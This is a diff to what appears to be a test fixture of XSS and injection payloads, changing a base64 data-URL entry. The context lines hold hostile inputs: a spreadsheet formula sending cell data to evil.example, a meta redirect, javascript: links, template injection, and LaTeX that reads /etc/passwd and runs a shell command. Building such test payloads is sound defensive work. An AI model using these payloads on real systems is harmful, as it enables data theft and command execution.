@@ -35,7 +35,7 @@ XSS_PAYLOADS: tuple[Payload, ...] = (
     Payload("xsstemplate", "{{ request.user.password }} {% debug %} {{7*7}}"),
     Payload("xssrtl", "invoice\u202egpj.exe"),
     Payload("xssmdlink", "[x](javascript:alert(1)) and ![y](javascript:alert(2))"),
-    Payload("xssdataurl", '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">d</a>'),
+    Payload("xssdataurl", '<a href="data:text/html;base64,PHNjcmlwdD4=">d</a>'),
     Payload("xssmeta", '<meta http-equiv="refresh" content="0;url=https://evil.example/">'),
     Payload("xssformula", '=HYPERLINK("https://evil.example/?x="&A1,"click")'),
     Payload("xsslatex", r"\input{/etc/passwd} \write18{id} $\x$ 100% #1 _x_ ^y ~ &"),
